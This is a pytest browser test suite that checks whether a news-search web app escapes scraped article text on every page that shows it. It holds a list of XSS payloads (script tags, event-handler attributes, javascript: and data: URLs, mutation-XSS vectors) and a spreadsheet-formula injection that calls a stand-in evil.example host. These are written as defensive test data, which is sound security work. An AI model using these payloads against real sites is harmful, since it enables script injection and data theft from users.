"""Scraped text full of XSS payloads, ingested through POST /api/articles, never runs script.

Real Chromium (Debian's, through Playwright) loads every page that shows article text: the
search page (snippets with <mark>, cold and through an htmx swap), each article, an entity
page, the Atom feed, the saved-views page and the JSON twin. Every payload would set
window.__xss or open a dialog. Beyond "nothing ran" (which the CSP alone could explain), the
DOM is checked for what escaping must guarantee: no injected element, no on* attribute, no
javascript: link, <mark> without attributes.
"""

import re

import httpx
import pytest

from tests.conftest import ADMIN_TOKEN
from tests.live import live_app, require_chromium

CANARY = "xsscanary"

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<script src=data:text/javascript,window.__xss=1></script>",
    '<img src=x onerror="window.__xss=1">',
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    '<a href="javascript:window.__xss=1">click</a>',
    '<iframe src="javascript:window.__xss=1"></iframe>',
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    '<div style="background:url(javascript:window.__xss=1)">css</div>',
    '<div style="width: expression(window.__xss=1)">css</div>',
    "<style>@import 'javascript:window.__xss=1';</style>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=alert(1)>",
    "</mark><script>window.__xss=1</script><mark>",
    "<mark onmouseover=window.__xss=1 style=x>marked</mark>",
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    '<object data="javascript:window.__xss=1"></object><embed src="javascript:window.__xss=1">',
    "{{ 7*7 }} {% raw %}${alert(1)}",
]
BAD_URLS = [
    "javascript:window.__xss=1",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>window.__xss=1</script>",
    "vbscript:msgbox(1)",
]


def _article(i: int, payload: str) -> dict:
    sentence = (f"Nvidia said the {CANARY} H20 shipments to China resumed {payload} while "
                f"regulators reviewed licence requests, number {i}. ")
    item = {"title": f"{payload} {CANARY} headline {i}", "source": f"{payload} wire",
            "published_at": f"2026-01-{1 + i % 28:02d}", "lang": "en",
            "url": f"https://news.example.com/{i}/\"><script>window.__xss=1</script>"}
    if i % 3 == 0:  # scraped HTML, through the extractor
        item["html"] = (f"<html><head><title>{payload}</title><script>window.__xss=1</script>"
                        f"</head><body onload=\"window.__xss=1\"><article><h1>{payload} {CANARY} {i}</h1>"
                        f"<p>{sentence * 3}</p><p>{payload}</p></article></body></html>")
    else:
        item["body"] = sentence * 3
    return item


@pytest.fixture(scope="module")
def xss_server(tmp_path_factory):
    require_chromium()
    from app.config import Settings

    settings = Settings(data_dir=tmp_path_factory.mktemp("xss"), admin_token=ADMIN_TOKEN)
    with live_app(settings) as (base, _runtime):
        yield base, _ingest_payloads(base)


def _ingest_payloads(base: str) -> list[int]:
    items = [_article(i, p) for i, p in enumerate(PAYLOADS)]
    items += [{"title": f"Bad link {CANARY} {j}", "url": url, "lang": "en", "published_at": "2025-12-01",
               "body": f"Nvidia H20 {CANARY} article whose link must never be clickable, case {j}."}
              for j, url in enumerate(BAD_URLS)]
    report = httpx.post(f"{base}/api/articles", json=items, timeout=60,
                        headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}).json()
    assert report["added"] == len(items), report
    return report["article_ids"]


@pytest.fixture
def page(browser):
    context = browser.new_context()
    pg = context.new_page()
    pg.dialogs = []
    pg.on("dialog", lambda d: (pg.dialogs.append(d.message), d.dismiss()))
    yield pg
    context.close()


INJECTED = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames()) {
      if (attr.toLowerCase().startsWith('on')) bad.push(el.tagName + '[' + attr + ']');
    }
    const tag = el.tagName.toLowerCase();
    if (['iframe', 'object', 'embed', 'svg', 'math', 'img', 'meta', 'style', 'base'].includes(tag)
        && !el.closest('.chart') && !(tag === 'meta' && el.closest('head') && !el.httpEquiv)) {
      bad.push(tag);
    }
    if (tag === 'script' && !(el.getAttribute('src') || '').startsWith('/static/')) bad.push('script');
    if (tag === 'a' && /^\\s*(javascript|data|vbscript):/i.test(el.getAttribute('href') || '')) bad.push('a:' + el.getAttribute('href'));
    if (tag === 'mark' && el.getAttributeNames().length) bad.push('mark with attributes');
  }
  return bad;
}"""


def settle(page) -> None:
    """Let any onload/onerror/ontoggle fire: the page and its subresources have loaded, nothing
    is in flight, and two animation frames have passed (toggle events are queued as tasks)."""
    page.wait_for_load_state("load")
    page.wait_for_load_state("networkidle")
    page.evaluate("() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")


def check(page, response, *, html: bool = True) -> None:
    assert response is not None and response.ok, response and response.status
    csp = response.headers.get("content-security-policy", "")
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert response.headers.get("x-content-type-options") == "nosniff"
    settle(page)
    assert page.evaluate("() => window.__xss") is None, f"script ran on {page.url}"
    assert page.dialogs == [], f"dialog opened on {page.url}: {page.dialogs}"
    if html:
        assert page.evaluate(INJECTED) == [], f"injected markup on {page.url}"


def test_search_page_snippets_escape_everything_but_mark(page, xss_server):
    base, _ = xss_server
    response = page.goto(f"{base}/?q={CANARY}&per_page=100")
    check(page, response)
    assert page.locator(".hit").count() == len(PAYLOADS) + len(BAD_URLS)
    assert page.locator(".snippet mark").count() >= len(PAYLOADS)
    assert page.locator(".snippet *:not(mark)").count() == 0
    # The payloads are shown as text, not lost.
    assert "<script>window.__xss=1</script>" in page.locator("body").inner_text()
    # The same results through an htmx swap (fragment inserted by script).
    page.goto(f"{base}/")
    page.fill("#q", f"{CANARY} Nvidia")
    page.press("#q", "Enter")
    page.wait_for_url(re.compile(r"q=xsscanary"))
    page.locator(".snippet mark").first.wait_for()
    assert page.evaluate("() => window.__xss") is None and page.dialogs == []
    assert page.evaluate(INJECTED) == []


def test_article_pages_show_text_and_no_script_links(page, xss_server):
    base, ids = xss_server
    for article_id in ids:
        response = page.goto(f"{base}/articles/{article_id}")
        check(page, response)
        original = page.locator("a", has_text="Original")
        if original.count():
            assert original.get_attribute("href").startswith("https://news.example.com/")
    for article_id in ids[len(PAYLOADS):]:  # the javascript:/data: URLs were dropped at ingestion
        page.goto(f"{base}/articles/{article_id}")
        assert page.locator("a", has_text="Original").count() == 0


def test_javascript_urls_are_never_stored_or_linked(xss_server):
    from app.ingest.normalize import canonical_url
    from app.web.rendering import web_url

    base, ids = xss_server
    for url in BAD_URLS:
        assert canonical_url(url) is None, url
        assert web_url(url) is None, url
    for article_id in ids[len(PAYLOADS):]:
        assert httpx.get(f"{base}/api/articles/{article_id}").json()["url"] is None


def test_entity_page_and_json_twin(page, xss_server):
    base, ids = xss_server
    check(page, page.goto(f"{base}/entities/nvidia"))
    assert page.locator(".hit").count() > 0
    check(page, page.goto(f"{base}/entities/h20"))
    response = page.goto(f"{base}/api/articles/{ids[0]}")
    check(page, response, html=False)
    assert response.headers["content-type"].startswith("application/json")
    assert page.evaluate("() => document.querySelectorAll('script:not([src])').length") == 0


def test_atom_feed_carries_payloads_as_escaped_text(page, xss_server):
    from xml.etree import ElementTree as ET

    base, _ = xss_server
    raw = httpx.get(f"{base}/feed.atom?q={CANARY}")
    feed = ET.fromstring(raw.content)  # well-formed, whatever the titles held
    namespaces = {el.tag.split("}")[0].lstrip("{") for el in feed.iter() if el.tag.startswith("{")}
    assert namespaces == {"http://www.w3.org/2005/Atom"}  # no XHTML (script) element got in
    for summary in feed.iter("{http://www.w3.org/2005/Atom}summary"):
        # type="html": the text is HTML a reader renders; only <mark> may be markup in it.
        assert not re.search(r"<(?!/?mark>)", summary.text or "")
    check(page, page.goto(f"{base}/feed.atom?q={CANARY}"), html=False)


def test_views_page_escapes_view_names(page, xss_server):
    base, _ = xss_server
    page.goto(f"{base}/admin")
    page.fill("#token", ADMIN_TOKEN)
    page.click("button[type=submit]")
    page.wait_for_url(f"{base}/admin")
    page.goto(f"{base}/?q={CANARY}")
    page.fill("#view-name", PAYLOADS[2] + PAYLOADS[0])
    page.click(".saveview button")
    page.wait_for_url(f"{base}/views")
    check(page, page.goto(f"{base}/views"))
    assert PAYLOADS[0] in page.locator(".view").first.inner_text()


def test_csv_export_defuses_spreadsheet_formulas(xss_server):
    import csv
    import io

    base, _ = xss_server
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click") ' + CANARY
    httpx.post(f"{base}/api/articles", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}, json={
        "title": formula, "source": "@SUM(1+1)", "lang": "en", "published_at": "2025-11-01",
        "body": f"Nvidia H20 {CANARY}: a title that would be a formula in a spreadsheet."}).raise_for_status()
    rows = list(csv.DictReader(io.StringIO(httpx.get(f"{base}/export.csv?q={CANARY}").content.decode("utf-8-sig"))))
    row = next(r for r in rows if "HYPERLINK" in r["title"])
    assert row["title"] == "'" + formula and row["source"] == "'@SUM(1+1)"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_the_harness_would_see_an_injection(page):
    """Control: the same payloads pasted raw (no escaping, no CSP) do run and are detected."""
    page.set_content("<p>" + "".join(PAYLOADS[:5]) + "</p><mark onclick=x>m</mark>")
    settle(page)
    assert page.evaluate("() => window.__xss") == 1
    found = page.evaluate(INJECTED)
    assert {"script", "img", "svg", "mark with attributes"} <= set(found)
    assert any(f.startswith("IMG[onerror") or f.startswith("SVG[onload") for f in found)
